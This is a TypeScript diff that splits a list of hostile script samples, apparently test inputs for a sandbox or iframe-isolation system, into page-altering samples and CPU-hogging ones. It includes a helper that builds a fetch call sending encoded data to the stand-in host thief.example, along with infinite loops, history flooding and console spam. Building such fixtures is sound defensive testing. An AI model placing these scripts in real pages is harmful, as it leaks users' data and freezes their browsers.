@@ -2,7 +2,9 @@
 const steal = (what: string) =>
   `fetch('https://thief.example/?' + encodeURIComponent(${what}), { mode: 'no-cors' })`
 
-export const hostileTags: readonly (readonly [what: string, script: string])[] = [
+type HostileTag = readonly [what: string, script: string]
+
+const others: readonly HostileTag[] = [
   // what moves the page
   [
     'puts a banner above the page',
@@ -74,7 +76,10 @@ export const hostileTags: readonly (readonly [what: string, script: string])[] =
     'fills the history',
     "for (let i = 0; i < 50; i++) { try { history.pushState({}, '', '#' + i) } catch {} location.hash = i }",
   ],
-  // what holds the processor, and with it all cages: they are the last to start
+]
+
+/** What holds the processor, and with it all cages: they are the last to start. */
+export const hogs: readonly HostileTag[] = [
   ['never ends', 'while (true) {}'],
   [
     'holds it for two seconds, again and again',
@@ -106,3 +111,5 @@ export const hostileTags: readonly (readonly [what: string, script: string])[] =
     "setInterval(() => { for (let i = 0; i < 100; i++) console.debug('x'.repeat(100)) }, 20)",
   ],
 ]
+
+export const hostileTags: readonly HostileTag[] = [...others, ...hogs]
